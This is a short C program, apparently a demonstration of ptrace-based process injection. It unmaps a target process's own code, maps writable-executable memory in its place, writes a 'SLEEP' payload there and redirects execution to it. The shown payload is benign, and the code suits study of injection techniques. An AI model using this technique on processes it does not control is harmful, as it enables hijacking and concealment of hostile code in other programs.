/* Takes the whole program out of memory, and puts code into memory of nobody in its place. */
#include "inject.h"

int main(int count, char **arguments) {
    pid_t pid = victim(count, arguments);
    char link[64], program[4096] = "";
    snprintf(link, sizeof link, "/proc/%d/exe", pid);
    if (readlink(link, program, sizeof program - 1) < 0)
        fail(link);
    struct region text = text_of(pid, program), region;
    struct user_regs_struct registers = attach(pid);
    FILE *file = NULL;
    while (next_region(pid, &file, program, &region))
        call(pid, registers, SYS_munmap, region.start, region.end - region.start, 0, 0);
    long at = memory(pid, registers, text.start, PROT_READ | PROT_WRITE | PROT_EXEC);
    put(pid, at, SLEEP, sizeof SLEEP);
    go(pid, registers, at);
    stay(pid);
}
